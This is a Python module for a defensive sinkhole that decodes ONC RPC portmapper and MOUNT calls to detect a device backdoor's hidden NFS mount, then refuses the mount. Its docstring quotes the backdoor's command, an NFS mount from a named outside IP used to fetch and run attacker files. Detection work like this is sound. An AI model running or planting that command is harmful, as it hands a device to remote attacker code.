"""ONC RPC (RFC 5531) just far enough to recognise the backdoor's NFS mount and answer it safely.

The hidden code in ``monitor`` / ``update`` runs ``mount -o nolock -t nfs 202.114.4.119:/pm /mnt``: the
kernel asks the portmapper (program 100000, GETPORT) where MOUNT (100005) lives, then sends MOUNT MNT
with the path ``/pm``, then talks NFS (100003) on 2049. Recognising those calls is the evidence.

The sinkhole answers so the device *proceeds to* the MNT call (GETPORT gets a plausible port), and then
refuses the mount itself (MNT answers "access denied"): we never hand the device a file system to copy
over its own and run. Deliberately left out: authentication flavours beyond skipping their bytes, NFS
procedures, every program we do not impersonate (answered PROG_UNAVAIL).
"""

from __future__ import annotations

import struct
from dataclasses import dataclass

PMAP_PROG = 100000
MOUNT_PROG = 100005
NFS_PROG = 100003
PMAP_GETPORT = 3
MOUNT_MNT = 1
PROGRAM_NAMES = {PMAP_PROG: "portmapper", MOUNT_PROG: "mount", NFS_PROG: "nfs"}

_CALL = 0
_REPLY = 1
_MSG_ACCEPTED = 0
_SUCCESS = 0
_PROG_UNAVAIL = 1
_PROC_UNAVAIL = 3
_MNT_ERR_ACCES = 13
_MAX_OPAQUE = 400  # RFC 5531: auth bodies are at most 400 bytes
_MAX_PATH = 1024  # MNTPATHLEN


class RpcDecodeError(ValueError):
    """Bytes that are not (or not yet) a complete ONC RPC call."""


@dataclass(frozen=True)
class RpcCall:
    xid: int
    program: int
    version: int
    procedure: int
    # GETPORT: the program asked about; MNT: the path asked for. Nothing else is kept.
    getport_program: int | None = None
    mount_path: str | None = None

    @property
    def program_name(self) -> str:
        return PROGRAM_NAMES.get(self.program, str(self.program))

    @property
    def is_mount_request(self) -> bool:
        """A MOUNT MNT call, or a portmapper lookup of MOUNT/NFS: both are the hidden mount starting."""
        if self.program == MOUNT_PROG and self.procedure == MOUNT_MNT:
            return True
        return self.program == PMAP_PROG and self.procedure == PMAP_GETPORT and self.getport_program in (
            MOUNT_PROG, NFS_PROG)

    def describe(self) -> str:
        text = f"ONC RPC call {self.program_name} v{self.version} proc {self.procedure}"
        if self.getport_program is not None:
            text += f" GETPORT({PROGRAM_NAMES.get(self.getport_program, self.getport_program)})"
        if self.mount_path is not None:
            text += f" MNT {self.mount_path!r}"
        return text


def _u32(data: bytes, offset: int) -> tuple[int, int]:
    if offset + 4 > len(data):
        raise RpcDecodeError("truncated RPC message")
    return struct.unpack_from(">I", data, offset)[0], offset + 4


def _opaque(data: bytes, offset: int, limit: int) -> tuple[bytes, int]:
    length, offset = _u32(data, offset)
    if length > limit:
        raise RpcDecodeError(f"opaque field of {length} bytes exceeds {limit}")
    padded = (length + 3) & ~3
    if offset + padded > len(data):
        raise RpcDecodeError("truncated RPC opaque field")
    return data[offset:offset + length], offset + padded


def decode_call(message: bytes) -> RpcCall:
    """Decode one RPC call message (without TCP record marking). Raises ``RpcDecodeError``."""
    xid, off = _u32(message, 0)
    msg_type, off = _u32(message, off)
    if msg_type != _CALL:
        raise RpcDecodeError("not an RPC call")
    rpcvers, off = _u32(message, off)
    if rpcvers != 2:
        raise RpcDecodeError(f"RPC version {rpcvers}, expected 2")
    prog, off = _u32(message, off)
    vers, off = _u32(message, off)
    proc, off = _u32(message, off)
    for _ in range(2):  # credential, then verifier
        _flavor, off = _u32(message, off)
        _body, off = _opaque(message, off, _MAX_OPAQUE)
    getport_program: int | None = None
    mount_path: str | None = None
    if prog == PMAP_PROG and proc == PMAP_GETPORT:
        getport_program, _ = _u32(message, off)
    elif prog == MOUNT_PROG and proc == MOUNT_MNT:
        raw, _ = _opaque(message, off, _MAX_PATH)
        mount_path = raw.decode("ascii", "replace")
    return RpcCall(xid, prog, vers, proc, getport_program, mount_path)


def split_records(buffer: bytes) -> tuple[list[bytes], bytes]:
    """Split TCP record marking (RFC 5531 s.11) into whole messages; return (messages, leftover bytes)."""
    messages: list[bytes] = []
    fragments: list[bytes] = []
    off = 0
    start = 0
    while off + 4 <= len(buffer):
        header = struct.unpack_from(">I", buffer, off)[0]
        length = header & 0x7FFFFFFF
        if off + 4 + length > len(buffer):
            break
        fragments.append(buffer[off + 4:off + 4 + length])
        off += 4 + length
        if header & 0x80000000:
            messages.append(b"".join(fragments))
            fragments = []
            start = off
    return messages, buffer[start:]


def record_mark(message: bytes) -> bytes:
    return struct.pack(">I", 0x80000000 | len(message)) + message


def _accepted(xid: int, accept_stat: int, results: bytes = b"") -> bytes:
    return struct.pack(">IIIIII", xid, _REPLY, _MSG_ACCEPTED, 0, 0, accept_stat) + results


def reply_for(call: RpcCall, *, nfs_port: int = 2049) -> bytes:
    """The sinkhole's answer: plausible enough for the device to reach MNT, never a usable mount."""
    if call.program == PMAP_PROG:
        if call.procedure == 0:
            return _accepted(call.xid, _SUCCESS)
        if call.procedure == PMAP_GETPORT:
            known = call.getport_program in (MOUNT_PROG, NFS_PROG)
            return _accepted(call.xid, _SUCCESS, struct.pack(">I", nfs_port if known else 0))
        return _accepted(call.xid, _PROC_UNAVAIL)
    if call.program == MOUNT_PROG:
        if call.procedure == 0:
            return _accepted(call.xid, _SUCCESS)
        if call.procedure == MOUNT_MNT:
            return _accepted(call.xid, _SUCCESS, struct.pack(">I", _MNT_ERR_ACCES))
        return _accepted(call.xid, _PROC_UNAVAIL)
    return _accepted(call.xid, _PROG_UNAVAIL)


def encode_call(xid: int, program: int, version: int, procedure: int, args: bytes = b"") -> bytes:
    """Build a call with AUTH_NONE (used by tests and by the bench's synthetic device traffic)."""
    return struct.pack(">IIIIIIIIII", xid, _CALL, 2, program, version, procedure, 0, 0, 0, 0) + args


def encode_string(value: bytes) -> bytes:
    padded = value + b"\x00" * ((4 - len(value) % 4) % 4)
    return struct.pack(">I", len(value)) + padded
